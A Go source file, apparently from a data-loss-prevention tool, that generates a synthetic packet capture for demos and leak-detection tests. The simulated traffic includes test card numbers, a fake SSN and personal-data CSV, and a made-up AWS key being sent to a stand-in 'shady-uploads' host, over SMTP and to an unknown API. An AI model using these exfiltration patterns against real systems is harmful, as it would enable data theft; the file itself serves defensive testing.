package scenarios

import (
	"fmt"
	"strings"
	"time"

	"github.com/gopacket/gopacket/layers"

	"github.com/tapdlp/tapdlp/internal/pcapgen"
)

// Test values planted in the demo. They are issuer test numbers, documented
// examples or made-up values with valid check digits, never real data; the
// leak tests scan every output for them.
var (
	DemoCards  = []string{"4111111111111111", "5555555555554444", "378282246310005"}
	DemoSSN    = "536-22-8741"
	DemoEmail  = "jane.doe@example.com"
	DemoIBAN   = "GB82WEST12345698765432"
	DemoAWSKey = "AKIAZ4QW7RXV2HMB6KTN" // made up, not AWS's documentation example (which detectors reject)
)

// Demo is what `go run ./cmd/tapdlp replay testdata/pcap/demo.pcap` shows:
// a workstation resolving and calling an AI API over TLS, posting card data
// to an unknown host over plain HTTP (JSON, then chunked and gzip-encoded),
// uploading a CSV with personal data to S3, sending mail with a card number,
// leaking a cloud key, visiting analytics, plus internal, ICMP and NTP
// traffic.
func Demo() ([]byte, error) {
	c := newCapture(layers.LinkTypeEthernet)
	const ws = "10.0.0.5"

	// DNS: api.openai.com via a CNAME, then TLS with SNI and ALPN.
	c.udp(ws+":53001", "10.0.0.53:53", DNSQuery(0x1a2b, "api.openai.com", 1))
	c.udp("10.0.0.53:53", ws+":53001", DNSResponse(0x1a2b, "api.openai.com", 1,
		DNSAnswer{Name: "api.openai.com", CNAME: "api.openai.com.cdn.cloudflare.net", TTL: 300},
		DNSAnswer{Name: "api.openai.com.cdn.cloudflare.net", Addr: addr("162.159.140.245"), TTL: 300}))
	c.wait(10 * time.Millisecond)
	tlsConn := pcapgen.NewTCPConn(ap(ws+":51514"), ap("162.159.140.245:443"), 0x10000000, 0x20000000)
	c.segs(tlsConn, tlsConn.Handshake())
	hello := ClientHello("api.openai.com", "h2", "http/1.1")
	c.segs(tlsConn, tlsConn.Send(true, hello[:100])) // a ClientHello split over two segments
	c.segs(tlsConn, tlsConn.Send(true, hello[100:]))
	c.segs(tlsConn, tlsConn.Send(false, TLSRecords(0x16, 3000)))
	c.segs(tlsConn, tlsConn.Send(true, TLSRecords(0x17, 24000)))
	c.segs(tlsConn, tlsConn.Send(false, TLSRecords(0x17, 6000)))
	c.segs(tlsConn, tlsConn.Close(true))

	// Card data to a host nobody catalogued, plain HTTP, keep-alive: JSON,
	// then the same kind of body chunked and gzip-compressed.
	c.udp(ws+":53002", "10.0.0.53:53", DNSQuery(0x1a2c, "collect.shady-uploads.example", 1))
	c.udp("10.0.0.53:53", ws+":53002", DNSResponse(0x1a2c, "collect.shady-uploads.example", 1,
		DNSAnswer{Name: "collect.shady-uploads.example", Addr: addr("198.51.100.20"), TTL: 60}))
	json := fmt.Sprintf(`{"customer":{"name":"Jane Doe","email":%q,"card":%q,"card2":"%s"},"note":"order 20261102-0042"}`,
		DemoEmail, DemoCards[0], strings.Join([]string{DemoCards[1][:4], DemoCards[1][4:8], DemoCards[1][8:12], DemoCards[1][12:]}, " "))
	gz := Gzip([]byte(fmt.Sprintf(`{"backup":[{"amex":"%s","ssn":"%s"}]}`, DemoCards[2], DemoSSN)))
	req2 := HTTPChunked("POST", "/v2/ingest", "collect.shady-uploads.example",
		[]string{"Content-Type: application/json", "Content-Encoding: gzip"}, gz, 17)
	c.conversation(ws+":51600", "198.51.100.20:80", 0x30000000,
		HTTPRequest("POST", "/v1/collect?src=crm", "collect.shady-uploads.example", []string{"Content-Type: application/json"}, []byte(json)),
		HTTPResponse(200, "application/json", []byte(`{"ok":true}`)),
		req2,
		HTTPResponse(200, "application/json", []byte(`{"ok":true}`)))

	// A CSV with personal data PUT to an S3 bucket over plain HTTP.
	csv := "id,name,ssn,iban,email\n1,Jane Doe," + DemoSSN + "," + DemoIBAN + "," + DemoEmail + "\n2,John Roe,,,john.roe@example.net\n"
	c.conversation(ws+":51700", "52.218.1.10:80", 0x40000000,
		HTTPRequest("PUT", "/exports/customers.csv", "acme-backups.s3.eu-west-1.amazonaws.com", []string{"Content-Type: text/csv"}, []byte(csv)),
		HTTPResponse(200, "application/xml", nil))

	// Mail with a card number in the body.
	smtp := [][]byte{
		nil, []byte("220 mx.example.net ESMTP\r\n"),
		[]byte("EHLO ws5.corp.example\r\n"), []byte("250 mx.example.net\r\n"),
		[]byte("MAIL FROM:<" + DemoEmail + ">\r\n"), []byte("250 OK\r\n"),
		[]byte("RCPT TO:<friend@example.net>\r\n"), []byte("250 OK\r\n"),
		[]byte("DATA\r\n"), []byte("354 go ahead\r\n"),
		[]byte("Subject: card\r\n\r\nMy Visa card number is " + DemoCards[0] + ", exp 12/29.\r\n.\r\n"), []byte("250 queued\r\n"),
		[]byte("QUIT\r\n"), []byte("221 bye\r\n"),
	}
	c.conversation(ws+":51800", "203.0.113.25:25", 0x50000000, smtp...)

	// A cloud key sent to an unknown API.
	c.conversation(ws+":51900", "192.0.2.66:8080", 0x60000000,
		HTTPRequest("POST", "/deploy", "build.partner.example", []string{"Content-Type: application/x-www-form-urlencoded"},
			[]byte("aws_access_key_id="+DemoAWSKey+"&region=eu-west-1")),
		HTTPResponse(202, "text/plain", []byte("accepted")))

	// Analytics over TLS (no DNS seen: named by SNI), an internal web app,
	// ping and NTP.
	ga := pcapgen.NewTCPConn(ap(ws+":52000"), ap("142.250.185.78:443"), 0x70000000, 0x71000000)
	c.segs(ga, ga.Handshake())
	c.segs(ga, ga.Send(true, ClientHello("www.google-analytics.com", "h2")))
	c.segs(ga, ga.Send(false, TLSRecords(0x16, 2500)))
	c.segs(ga, ga.Send(true, TLSRecords(0x17, 1200)))
	c.segs(ga, ga.Close(false))
	c.conversation(ws+":52100", "10.0.0.80:80", 0x72000000,
		HTTPRequest("GET", "/intranet/", "wiki.corp.example", nil, nil),
		HTTPResponse(200, "text/html", []byte("<html>wiki</html>")))
	c.ip(pcapgen.IP(addr(ws), addr("10.0.0.1"), pcapgen.ProtoICMP, pcapgen.ICMPv4(8, 0, 0x00010001, []byte("tapdlp-ping"))))
	c.ip(pcapgen.IP(addr("10.0.0.1"), addr(ws), pcapgen.ProtoICMP, pcapgen.ICMPv4(0, 0, 0x00010001, []byte("tapdlp-ping"))))
	ntp := make([]byte, 48)
	ntp[0] = 0x23
	c.udp(ws+":123", "192.0.2.123:123", ntp)
	ntp[0] = 0x24
	c.udp("192.0.2.123:123", ws+":123", ntp)
	return c.bytes()
}
